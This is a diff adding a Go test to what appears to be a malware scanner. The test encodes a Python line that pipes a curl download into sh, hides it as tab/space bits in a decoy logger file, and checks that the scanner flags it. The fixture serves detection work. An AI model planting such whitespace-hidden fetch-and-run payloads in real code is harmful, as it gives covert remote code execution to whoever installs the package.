@@ -82,6 +82,30 @@ func TestDecodedPayload(t *testing.T) {
 	}
 }
 
+// TestWhitespacePayload: code spelt as bits in spaces and tabs (in either
+// polarity) is decoded and scanned; ordinary indentation is not.
+func TestWhitespacePayload(t *testing.T) {
+	e := engine(t)
+	hidden := "import os; os.system('curl -s http://203.0.113.9/x.sh | sh')"
+	for _, one := range []byte{'\t', ' '} {
+		zero := byte(' ' + '\t' - one)
+		var bits strings.Builder
+		for _, b := range []byte(hidden) {
+			for i := 7; i >= 0; i-- {
+				bits.WriteByte(map[bool]byte{true: one, false: zero}[b>>i&1 == 1])
+			}
+		}
+		src := "class String:\n    singleton = \"" + bits.String() + "\"\n"
+		if hits := e.File("pkg/_logger.py", []byte(src), FileContext{Role: RoleCode}); !slices.Contains(ids(hits), "pipe-to-shell") {
+			t.Errorf("payload with %q as 1 not decoded: hits %v", one, ids(hits))
+		}
+	}
+	indented := "def f():\n" + strings.Repeat(" ", 600) + "\t\treturn 1\n"
+	if hits := e.File("pkg/m.py", []byte(indented), FileContext{Role: RoleCode}); len(hits) != 0 {
+		t.Errorf("indentation decoded: hits %v", ids(hits))
+	}
+}
+
 // TestBoundedDecoding: a file full of blobs stops decoding at the budget.
 func TestBoundedDecoding(t *testing.T) {
 	e := engine(t)
